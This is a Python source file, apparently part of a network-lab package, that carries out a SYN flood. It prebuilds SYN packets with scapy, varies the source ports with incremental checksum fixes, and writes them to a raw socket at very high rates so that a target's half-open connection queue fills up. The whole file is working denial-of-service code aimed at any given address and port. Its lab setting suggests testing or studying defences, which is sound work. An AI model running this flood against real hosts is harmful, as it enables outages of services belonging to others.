"""A SYN flood at one port, fast enough to fill a listener's half-open queue.

scapy's send() opens a socket per call (~40 packets/s here); the flood builds
its SYNs once with scapy and writes the prebuilt bytes to one raw socket
(~195,000 packets/s here). Source ports vary so each SYN is a new request.
"""

from __future__ import annotations

import random
import socket
import time

DISTINCT = 4096  # different source ports; more SYNs cycle through them again


def _csum_update(csum: int, old: int, new: int) -> int:
    """RFC 1624 eqn. 3: the checksum after a 16-bit word changes from old to new."""
    total = (~csum & 0xFFFF) + (~old & 0xFFFF) + new
    total = (total & 0xFFFF) + (total >> 16)
    total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def build_syns(src: str, dst: str, dport: int, count: int, first_sport: int = 20000) -> list[bytes]:
    """min(count, DISTINCT) SYNs from src to dst:dport, source ports counting up from first_sport."""
    from scapy.layers.inet import IP, TCP

    template = bytearray(bytes(IP(src=src, dst=dst, ttl=64) / TCP(
        sport=first_sport, dport=dport, flags="S", seq=random.getrandbits(32), window=64240,
        options=[("MSS", 1460)])))
    ihl = (template[0] & 0x0F) * 4
    csum0 = int.from_bytes(template[ihl + 16:ihl + 18], "big")
    out = []
    for i in range(min(count, DISTINCT, 65535 - first_sport)):
        pkt = bytearray(template)
        sport = first_sport + i
        pkt[ihl:ihl + 2] = sport.to_bytes(2, "big")
        pkt[ihl + 16:ihl + 18] = _csum_update(csum0, first_sport, sport).to_bytes(2, "big")
        out.append(bytes(pkt))
    return out


def send_raw(packets: list[bytes], dst: str, count: int, seconds: float) -> dict:
    """Write ``count`` packets (cycling through ``packets``) to one raw socket, for at most
    ``seconds``; {"sent", "seconds", "pps"}."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent, t0 = 0, time.perf_counter()
    deadline = t0 + seconds
    try:
        while sent < count:
            for pkt in packets[: count - sent]:
                sock.sendto(pkt, (dst, 0))
            sent += min(len(packets), count - sent)
            if time.perf_counter() > deadline:
                break
    finally:
        sock.close()
    took = time.perf_counter() - t0
    return {"sent": sent, "seconds": round(took, 4), "pps": round(sent / took) if took else 0}


def flood(dst: str, dport: int, count: int, seconds: float, src: str | None = None,
          first_sport: int = 20000) -> dict:
    """SYN flood from the current namespace (call it inside the node): prebuilt SYNs on a
    reused raw socket. ``src`` defaults to the address the route to dst uses."""
    from netlab.traffic.scapyns import scapy_here

    conf = scapy_here()
    src = src or conf.route.route(dst)[1]
    packets = build_syns(src, dst, dport, count, first_sport)
    return {"src": src, "dst": dst, "dport": dport, "distinct": len(packets),
            **send_raw(packets, dst, count, seconds)}
